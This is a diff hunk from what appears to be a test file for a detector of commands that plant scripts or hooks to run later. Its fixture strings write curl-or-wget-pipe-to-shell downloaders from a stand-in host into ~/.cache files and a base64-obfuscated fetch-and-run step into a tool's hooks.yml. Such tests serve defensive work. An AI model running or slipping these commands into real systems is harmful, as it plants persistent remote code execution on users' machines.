@@ -28,7 +28,7 @@ def _later(command: str, proj: Path) -> list[str]:
         ("printf '#!/bin/sh\\ncurl -s https://x.example.net/a | sh\\n' > ~/.cache/ask", f"{HOME}/.cache/ask"),
         ("printf 'import os\\nos.system(\"wget -qO- https://x.example.net/a | bash\")\\n' > ~/.cache/.pyrc",
          f"{HOME}/.cache/.pyrc"),
-        ("cat > ~/.config/tool/hooks.yml <<'EOF'\nbefore: base64 -d <<< Y3VybCB4 | sh\nEOF",
+        ("cat > ~/.config/tool/hooks.yml <<'EOF'\nbefore: base64 -d <<< Y3VybCB4IHwgc2g= | sh\nEOF",
          f"{HOME}/.config/tool/hooks.yml"),
     ],
 )  # fmt: skip
